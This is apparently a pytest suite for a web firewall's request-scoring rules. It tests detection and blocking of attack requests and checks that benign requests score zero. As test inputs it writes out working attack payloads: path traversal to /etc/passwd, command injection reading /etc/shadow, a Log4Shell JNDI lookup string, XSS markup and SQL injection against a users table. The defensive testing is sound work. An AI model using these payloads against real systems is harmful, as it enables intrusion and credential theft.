"""Request scoring: decoding of each request part, rules by target and paranoia level, one RE2 set per
part, and the gate acting on it per level (over HTTP); the figures against the CRS tests come from
bench/probes.py."""

from __future__ import annotations

import dataclasses
import secrets
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from floodwall.config import ConfigError
from floodwall.defense import request_parts
from floodwall.defense.request_parts import parts
from floodwall.defense.scoring import Scorer, ScoringPolicy, load_rules
from floodwall.edge.policy import DEFAULT_POLICY
from floodwall.inspection import Described
from tests.conftest import PASSWORD, default_policy_process

TOKEN = "admin-" + secrets.token_hex(16)


@pytest.fixture(scope="module")
def scorer() -> Scorer:
    return Scorer(load_rules(), paranoia=1, budget=1.0)  # the rules are tested here, not the time


def test_attacks_in_each_part_are_scored(scorer: Scorer) -> None:
    cases = {
        "lfi/traversal": Described("GET", "/download", "file=..%252f..%252fetc%252fpasswd"),
        "xss/markup": Described("GET", "/comment", "text=" + quote("<svg onload=alert(1)>")),
        "rce/unix-command": Described("GET", "/ping", "host=" + quote("127.0.0.1;cat /etc/shadow")),
        "java/classes": Described("GET", "/", "", (("User-Agent", "${jndi:ldap://x.example/a}"),
                                                  ("X-Api-Version", "${jndi:ldap://x.example/a}"))),
        "scanner/user-agent": Described("GET", "/", "", (("User-Agent", "sqlmap/1.7.2#stable"),)),
        "sqli/keywords": Described("GET", "/items", "id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users"),
    }
    for rule, request in cases.items():
        found = scorer.score(request)
        assert rule in found.rules and found.score >= 5, (rule, found)


def test_ordinary_requests_score_nothing(scorer: Scorer) -> None:
    for request in (Described("GET", "/", "page=2&sort=name", (("Host", "chat.example.org"),
                                                              ("User-Agent", "Mozilla/5.0 Firefox/128.0"),
                                                              ("Accept-Encoding", "gzip, deflate, br"))),
                    Described("POST", "/v1/chat/completions", "", (("Host", "chat.example.org"),
                                                                   ("Content-Type", "application/json")))):
        assert scorer.score(request).score == 0, scorer.score(request)


def test_what_looks_like_an_attack_but_is_not(scorer: Scorer) -> None:
    for request in (Described("GET", "/post", "var=" + quote("hello; time he came")),  # English after a semicolon
                    Described("GET", "/get", "tag=%3C%3Fxpacket%20begin%3D%22%22%3F%3E"),  # an XMP packet, not PHP
                    Described("GET", "/", "encoding=base64"),
                    Described("GET", "/", "", (("Cookie", "MyVersion=1; PHPSESSID=secret"),)),
                    Described("GET", "/javascript-manual/document.cookie")):
        request = dataclasses.replace(request, headers=(("Host", "chat.example.org"), *request.headers))
        assert scorer.score(request).score == 0, (request, scorer.score(request))


def test_the_form_of_a_request_is_scored(scorer: Scorer) -> None:
    host = ("Host", "chat.example.org")
    odd = {
        "protocol/content-type": Described("POST", "/x", "", (host, ("Content-Type", "my-new-content-type"))),
        "protocol/charset": Described("POST", "/x", "", (host, ("Content-Type", "text/plain; charset=ibm038"))),
        "protocol/null-byte": Described("GET", "/x", "a=b%00", (host,)),
        "protocol/body-on-get": Described("GET", "/x", "", (host, ("Content-Length", "7"))),
        "protocol/restricted-extension": Described("GET", "/backup/site.sql", "", (host,)),
        "method/not-allowed": Described("TRACK", "/", "", (host,)),
        "sqli/nosql-operators": Described("GET", "/users", "id[$ne]=2", (host,)),
    }
    for rule, request in odd.items():
        assert rule in scorer.score(request).rules, (rule, scorer.score(request))
    # quotes, backslashes and carets inside a word are dropped as a shell drops them
    evaded = scorer.score(Described("GET", "/", "cmd=" + quote("x; w^ho^am''i"), (host,)))
    assert "rce/unix-command" in evaded.rules or "rce/unix-command-more" in evaded.rules, evaded
    # a session id as an argument counts when the link came from elsewhere; as a cookie it never does
    fixation = Described("GET", "/login", "PHPSESSID=abc", (host,))
    assert "session/id-argument" in scorer.score(fixation).rules
    same_site = dataclasses.replace(fixation, headers=(host, ("Referer", "https://chat.example.org/")))
    assert "session/id-argument" not in scorer.score(same_site).rules
    assert scorer.score(Described("GET", "/", "", (host, ("Cookie", "PHPSESSID=abc")))).score == 0


def test_the_reader_decodes_what_applications_decode(scorer: Scorer) -> None:
    host = ("Host", "chat.example.org")
    # a value sent as base64 is also read as its text; one that is not text is not
    hidden = parts(Described("GET", "/", "eval=d2hpbGUodHJ1ZSk7Cg%3D%3D&id=AAECAwQFBgcICQoLDA0ODw%3D%3D", (host,)))
    assert hidden["base64"] == ["while(true);\n"]
    assert "generic/js-loop" in scorer.score(Described("GET", "/", "eval=d2hpbGUodHJ1ZSk7Cg%3D%3D", (host,))).rules
    # a plus sent as %2B stays a plus (the query is form-decoded once already)
    assert parts(Described("GET", "/", "sum=1%2B1", (host,)))["args"] == ["1+1"]
    # the user agent is decoded like the other headers
    agent = parts(Described("GET", "/", "", (host, ("User-Agent", "x %3Cf%20o%20r%20m"))))
    assert agent["agent"] == ["x <f o r m"]
    # a body without a type (as its headers say: the gate reads no body), and where the link came from
    untyped = parts(Described("POST", "/api", "", (host, ("Content-Length", "18"))))
    assert "body-without-type" in untyped["anomalies"]
    assert "no-referer" in untyped["anomalies"] and "referer-offsite" not in untyped["anomalies"]
    offsite = parts(Described("GET", "/", "", (host, ("Referer", "https://elsewhere.example/"))))
    assert {"referer-elsewhere", "referer-offsite"} <= set(offsite["anomalies"])
    # any session-like name counts with another site's referer; with none, only the well-known names do
    flask = Described("GET", "/login", "_flask_session=eyJ9", (host, ("Referer", "https://elsewhere.example/")))
    assert "session/id-argument-offsite" in scorer.score(flask).rules
    assert scorer.score(dataclasses.replace(flask, headers=(host,))).score == 0


def test_no_body_is_read() -> None:
    """The gate reads what comes before the body: a body's parsers would be code only a benchmark reached."""
    assert "body" not in {field.name for field in dataclasses.fields(Described)}
    assert not [name for name in dir(request_parts) if "multipart" in name or "xml" in name.lower()]


def test_paranoia_adds_rules(scorer: Scorer) -> None:
    assert len(Scorer(load_rules(), paranoia=2).rules) > len(scorer.rules)


def test_bad_rules_are_refused(tmp_path: Path) -> None:
    (tmp_path / "r.toml").write_text('[[rule]]\nname = "x"\ncategory = "y"\ntargets = ["nowhere"]\npattern = "a"\n')
    with pytest.raises(ConfigError, match="targets"):
        load_rules(tmp_path / "r.toml")


@pytest.mark.parametrize("data", [{"paranoia": 5}, {"threshold": 0}, {"normal": "block"}, {"rules": 3},
                                  {"paranoia": True}, {"elevated": "refuse", "extra": 1}])
def test_bad_settings_are_refused(data: dict[str, object]) -> None:
    with pytest.raises(ConfigError, match=r"\[scoring\]"):
        ScoringPolicy.from_data(data, "[scoring]")


@pytest.fixture(scope="module")
def refusing(model_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The default policy, but refusing flagged requests under attack."""
    tmp = tmp_path_factory.mktemp("scoring")
    policy = DEFAULT_POLICY.read_text()
    assert policy.count('under_attack = "flag"') == 1  # [scoring]'s
    (tmp / "policy.toml").write_text(policy.replace('under_attack = "flag"', 'under_attack = "refuse"'))
    env = {"FLOODWALL_ADMIN_TOKEN": TOKEN, "FLOODWALL_DEFENSE_NEW_ACCOUNT_AGE": "0s",
           "FLOODWALL_EDGE_POLICY": str(tmp / "policy.toml")}
    with default_policy_process(tmp, model_url, "memory", env) as url:
        yield url


def test_under_attack_a_flagged_request_is_refused_and_explained(refusing: str) -> None:
    admin = httpx.Client(base_url=refusing, headers={"authorization": f"Bearer {TOKEN}"})
    caller = httpx.Client(base_url=refusing, transport=httpx.HTTPTransport(local_address="127.8.0.1"))
    member = httpx.Client(base_url=refusing, transport=httpx.HTTPTransport(local_address="127.8.1.1"))
    email = f"m-{secrets.token_hex(4)}@example.com"
    assert member.post("/auth/register", json={"email": email, "password": PASSWORD}).status_code == 201
    assert member.post("/auth/login", json={"email": email, "password": PASSWORD}).status_code == 200
    attack = {"file": "../../../../etc/passwd"}
    assert caller.get("/login", params=attack).status_code == 200  # normal: flagged, let through
    assert admin.put("/admin/api/level", json={"level": "under_attack", "reason": "test"}).status_code == 200
    try:
        refused = caller.get("/login", params=attack)
        assert refused.status_code == 403, refused.text
        assert refused.json()["error"]["code"] == "request_blocked"
        assert refused.headers["x-floodwall-reason"].startswith("probe/lfi")
        assert caller.get("/login", params={"next": "/chat"}).status_code == 200
        assert member.get("/chat", params=attack).status_code == 200  # established accounts are not scored
        described = {"request": {"method": "GET", "path": "/login?file=../../../../etc/passwd",
                                 "address": "127.8.2.1"}}
        found = admin.post("/admin/api/explain", json=described).json()
        assert found["decision"] == "refuse" and found["reason"].startswith("probe/lfi"), found
        assert found["scoring"]["score"] >= 5 and found["scoring"]["action"] == "refuse"
        calm = admin.post("/admin/api/explain", json={"request": {"method": "GET", "path": "/login",
                                                                   "query": "next=/chat", "address": "127.8.2.1"}})
        scoring = calm.json()["scoring"]
        assert calm.json()["decision"] == "pass" and scoring["score"] < scoring["threshold"]
        assert scoring["rules"] in ([], ["protocol/host-is-address"])  # the test's Host is 127.0.0.1:port
        bad = admin.post("/admin/api/explain", json={"request": {"path": "/", "query": 3}})
        assert bad.status_code == 400 and bad.json()["error"]["param"] == "request.query"
    finally:
        admin.put("/admin/api/level", json={"level": "normal", "reason": "test"})
        for c in (admin, caller, member):
            c.close()


def test_a_header_sent_twice_is_read_whole(scorer: Scorer) -> None:
    """A second Cookie or User-Agent line cannot hide the first from the rules."""
    for name in ("Cookie", "User-Agent"):
        payload = "a=1' union select password from users--" if name == "Cookie" else "<script>alert(1)</script>"
        found = scorer.score(Described("GET", "/", "", (("Host", "x"), (name, payload), (name, "theme=dark"))))
        assert found.score >= 5, name


def test_a_request_seen_before_is_a_lookup_and_a_large_or_unfinished_one_is_read_again() -> None:
    from floodwall.defense import scoring
    from floodwall.inspection import Described

    scorer = Scorer(load_rules(), 5)
    flood = Described("POST", "/v1/chat/completions", "", (("user-agent", "python-requests/2.31"),
                                                           ("authorization", "Bearer fw_" + "x" * 43)))
    first = scorer.score(flood)
    assert scorer.score(flood) is first  # one repeated request from many addresses: read once
    assert scorer.score(dataclasses.replace(flood, query="id=1")) is not first
    large = Described("GET", "/", "q=" + "a" * scoring.REQUEST_SIZE_KEPT)
    assert scorer.score(large) is not scorer.score(large)
    starved = Scorer(load_rules(), 5, budget=0.0)  # no time to read: what it scores is incomplete
    attack = Described("GET", "/index.php", "id=1%27+or+1%3D1--&file=../../etc/passwd")
    once = starved.score(attack)
    assert not once.complete and starved.score(attack) is not once
